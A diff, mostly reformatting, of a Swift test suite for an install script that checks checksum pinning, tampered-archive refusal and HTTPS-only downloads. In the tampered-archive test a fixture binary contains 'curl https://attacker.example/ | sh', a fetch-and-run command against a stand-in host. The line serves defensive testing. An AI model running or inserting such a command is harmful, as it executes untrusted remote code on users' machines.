@@ -1,6 +1,7 @@
+import A11yDocsTestSupport
 import Foundation
 import XCTest
-import A11yDocsTestSupport
+
 @testable import A11yDocs
 
 /// scripts/install-a11ydocs.sh, as `init` writes it, run with sh against local archives: it
@@ -20,11 +21,14 @@ final class InstallScriptTests: XCTestCase {
 
     override func setUpWithError() throws {
         root = try Fixtures.temporaryDirectory(self)
-        try XCTUnwrap(StarterFiles.files["scripts/install-a11ydocs.sh"]).write(to: script, atomically: true, encoding: .utf8)
+        try XCTUnwrap(StarterFiles.files["scripts/install-a11ydocs.sh"]).write(
+            to: script, atomically: true, encoding: .utf8)
         let tools = root.appendingPathComponent("tools")
         try FileManager.default.createDirectory(at: tools, withIntermediateDirectories: true)
-        let tar = try XCTUnwrap(["/usr/bin/tar", "/bin/tar"].first { FileManager.default.isExecutableFile(atPath: $0) })
-        try executable(tools.appendingPathComponent("tar"), "#!/bin/sh\necho \"$@\" >> '\(unpacked.path)'\nexec \(tar) \"$@\"\n")
+        let tar = try XCTUnwrap(
+            ["/usr/bin/tar", "/bin/tar"].first { FileManager.default.isExecutableFile(atPath: $0) })
+        try executable(
+            tools.appendingPathComponent("tar"), "#!/bin/sh\necho \"$@\" >> '\(unpacked.path)'\nexec \(tar) \"$@\"\n")
     }
 
     /// `a11ydocs-<version>-linux-x86_64.tar.gz` in `folder`, its binary printing the version (and
@@ -34,12 +38,21 @@ final class InstallScriptTests: XCTestCase {
     private func archive(in folder: String, extra: String = "") throws -> (url: String, sha256: String) {
         let name = "a11ydocs-\(Release.version)-linux-x86_64"
         let stage = root.appendingPathComponent("stage-\(folder)"), target = root.appendingPathComponent(folder)
-        try FileManager.default.createDirectory(at: stage.appendingPathComponent("\(name)/bin"), withIntermediateDirectories: true)
+        try FileManager.default.createDirectory(
+            at: stage.appendingPathComponent("\(name)/bin"), withIntermediateDirectories: true)
         try FileManager.default.createDirectory(at: target, withIntermediateDirectories: true)
-        try executable(stage.appendingPathComponent("\(name)/bin/a11ydocs"), "#!/bin/sh\necho \(Release.version)\n\(extra)\n")
-        _ = try shell("cd '\(stage.path)/\(name)' && sha256sum bin/a11ydocs > SHA256SUMS && cd .. && tar -czf '\(target.path)/\(name).tar.gz' \(name) && cd '\(target.path)' && sha256sum \(name).tar.gz > \(name).tar.gz.sha256")
+        try executable(
+            stage.appendingPathComponent("\(name)/bin/a11ydocs"), "#!/bin/sh\necho \(Release.version)\n\(extra)\n")
+        _ = try shell(
+            "cd '\(stage.path)/\(name)' && sha256sum bin/a11ydocs > SHA256SUMS && cd .. && tar -czf "
+                + "'\(target.path)/\(name).tar.gz' \(name) && cd '\(target.path)' && sha256sum \(name).tar.gz > "
+                + "\(name).tar.gz.sha256"
+        )
         let sum = try String(contentsOf: target.appendingPathComponent("\(name).tar.gz.sha256"), encoding: .utf8)
-        return ("file://\(target.path)/a11ydocs-{version}-linux-x86_64.tar.gz", try XCTUnwrap(Release.sha256(checksumFile: sum)))
+        return (
+            "file://\(target.path)/a11ydocs-{version}-linux-x86_64.tar.gz",
+            try XCTUnwrap(Release.sha256(checksumFile: sum))
+        )
     }
 
     private func executable(_ url: URL, _ text: String) throws {
@@ -53,8 +66,10 @@ final class InstallScriptTests: XCTestCase {
 
     /// The installer with nothing in its environment but `variables`, the version and its home.
     private func install(_ variables: [String: String]) throws -> Run {
-        let environment = ["PATH": root.appendingPathComponent("tools").path + ":/usr/bin:/bin", "HOME": root.path,
-                           "A11YDOCS_VERSION": Release.version, "A11YDOCS_HOME": home.path].merging(variables) { $1 }
+        let environment = [
+            "PATH": root.appendingPathComponent("tools").path + ":/usr/bin:/bin", "HOME": root.path,
+            "A11YDOCS_VERSION": Release.version, "A11YDOCS_HOME": home.path,
+        ].merging(variables) { $1 }
         return try run(["/bin/sh", script.path], environment: environment)
     }
 
@@ -71,17 +86,23 @@ final class InstallScriptTests: XCTestCase {
         process.standardInput = FileHandle.nullDevice
         try process.run()
         process.waitUntilExit()
-        return Run(status: process.terminationStatus, stdout: try String(contentsOf: out, encoding: .utf8),
-                   stderr: try String(contentsOf: err, encoding: .utf8))
+        return Run(
+            status: process.terminationStatus, stdout: try String(contentsOf: out, encoding: .utf8),
+            stderr: try String(contentsOf: err, encoding: .utf8))
     }
 
     private var installed: Bool { FileManager.default.fileExists(atPath: home.appendingPathComponent("a11ydocs").path) }
 
     func testAnArchiveMatchingThePinnedChecksumIsInstalled() throws {
         let good = try archive(in: "good")
-        let run = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": good.sha256.uppercased(), "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
+        let run = try install([
+            "A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": good.sha256.uppercased(),
+            "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
+        ])
         XCTAssertEqual(run.status, 0, run.stderr)
-        XCTAssertTrue(run.stdout.contains("Checking the archive against the SHA-256 in A11YDOCS_SHA256 (pinned in the workflow)"), run.stdout)
+        XCTAssertTrue(
+            run.stdout.contains("Checking the archive against the SHA-256 in A11YDOCS_SHA256 (pinned in the workflow)"),
+            run.stdout)
         XCTAssertTrue(run.stdout.contains("Installed a11ydocs \(Release.version)"), run.stdout)
         XCTAssertTrue(run.stderr.contains("WARNING: installing from a local file"), run.stderr)
         XCTAssertTrue(installed)
@@ -92,10 +113,15 @@ final class InstallScriptTests: XCTestCase {
     func testATamperedArchiveWithRecomputedChecksumsIsRefusedBeforeUnpacking() throws {
         let original = try archive(in: "good")
         let tampered = try archive(in: "tampered", extra: "curl https://attacker.example/ | sh")
-        let run = try install(["A11YDOCS_ARCHIVE_URL": tampered.url, "A11YDOCS_SHA256": original.sha256, "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
+        let run = try install([
+            "A11YDOCS_ARCHIVE_URL": tampered.url, "A11YDOCS_SHA256": original.sha256,
+            "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
+        ])
         XCTAssertEqual(run.status, 1, run.stdout)
         XCTAssertTrue(run.stderr.contains("does not match its checksum, so it was not unpacked."), run.stderr)
-        XCTAssertTrue(run.stderr.contains("expected SHA-256: \(original.sha256), from A11YDOCS_SHA256 (pinned in the workflow)"), run.stderr)
+        XCTAssertTrue(
+            run.stderr.contains("expected SHA-256: \(original.sha256), from A11YDOCS_SHA256 (pinned in the workflow)"),
+            run.stderr)
         XCTAssertTrue(run.stderr.contains("actual SHA-256:   \(tampered.sha256)"), run.stderr)
         XCTAssertTrue(run.stderr.contains("If you changed A11YDOCS_VERSION, set A11YDOCS_SHA256"), run.stderr)
         XCTAssertFalse(FileManager.default.fileExists(atPath: unpacked.path), "tar ran")
@@ -104,16 +130,22 @@ final class InstallScriptTests: XCTestCase {
 
     func testWithoutAPinTheChecksumBesideTheArchiveIsUsedAndSaidSo() throws {
         let good = try archive(in: "good")
-        let run = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": "", "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
+        let run = try install([
+            "A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": "", "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
+        ])
         XCTAssertEqual(run.status, 0, run.stderr)
         let beside = good.url.replacingOccurrences(of: "{version}", with: Release.version) + ".sha256"
-        XCTAssertTrue(run.stdout.contains("against the SHA-256 in \(beside), downloaded from the same place (A11YDOCS_SHA256 is empty; pin it"), run.stdout)
+        XCTAssertTrue(
+            run.stdout.contains(
+                "against the SHA-256 in \(beside), downloaded from the same place (A11YDOCS_SHA256 is empty; pin it"),
+            run.stdout)
         XCTAssertTrue(installed)
     }
 
     func testNoChecksumAtAllIsRefused() throws {
         let good = try archive(in: "good")
-        try FileManager.default.removeItem(at: root.appendingPathComponent("good/a11ydocs-\(Release.version)-linux-x86_64.tar.gz.sha256"))
+        try FileManager.default.removeItem(
+            at: root.appendingPathComponent("good/a11ydocs-\(Release.version)-linux-x86_64.tar.gz.sha256"))
         let run = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
         XCTAssertEqual(run.status, 1, run.stdout)
         XCTAssertTrue(run.stderr.contains("no checksum to check"), run.stderr)
@@ -121,7 +153,9 @@ final class InstallScriptTests: XCTestCase {
         XCTAssertFalse(FileManager.default.fileExists(atPath: unpacked.path), "tar ran")
         XCTAssertFalse(installed)
 
-        let notASum = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": "abc123", "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
+        let notASum = try install([
+            "A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": "abc123", "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
+        ])
         XCTAssertEqual(notASum.status, 1)
         XCTAssertTrue(notASum.stderr.contains("is not a SHA-256 (64 hexadecimal digits)"), notASum.stderr)
         XCTAssertFalse(installed)
@@ -129,10 +163,14 @@ final class InstallScriptTests: XCTestCase {
 
     func testOnlyHTTPSAddressesAreDownloaded() throws {
         let good = try archive(in: "good")
-        let http = try install(["A11YDOCS_ARCHIVE_URL": "http://127.0.0.1:9/a11ydocs.tar.gz", "A11YDOCS_SHA256": good.sha256,
-                                "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
+        let http = try install([
+            "A11YDOCS_ARCHIVE_URL": "http://127.0.0.1:9/a11ydocs.tar.gz", "A11YDOCS_SHA256": good.sha256,
+            "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
+        ])
         XCTAssertEqual(http.status, 1)
-        XCTAssertTrue(http.stderr.contains("A11YDOCS_ARCHIVE_URL is an http:// address (http://127.0.0.1:9/a11ydocs.tar.gz)"), http.stderr)
+        XCTAssertTrue(
+            http.stderr.contains("A11YDOCS_ARCHIVE_URL is an http:// address (http://127.0.0.1:9/a11ydocs.tar.gz)"),
+            http.stderr)
         XCTAssertFalse(http.stdout.contains("Downloading"), http.stdout)
 
         let file = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": good.sha256])
@@ -141,7 +179,9 @@ final class InstallScriptTests: XCTestCase {
         XCTAssertTrue(file.stderr.contains("run with A11YDOCS_ALLOW_INSECURE_ARCHIVE=1"), file.stderr)
         XCTAssertFalse(file.stdout.contains("Downloading"), file.stdout)
 
-        let other = try install(["A11YDOCS_ARCHIVE_URL": "ftp://example.com/a11ydocs.tar.gz", "A11YDOCS_SHA256": good.sha256])
+        let other = try install([
+            "A11YDOCS_ARCHIVE_URL": "ftp://example.com/a11ydocs.tar.gz", "A11YDOCS_SHA256": good.sha256,
+        ])
         XCTAssertEqual(other.status, 1)
         XCTAssertTrue(other.stderr.contains("must be an https:// address"), other.stderr)
         XCTAssertFalse(installed)
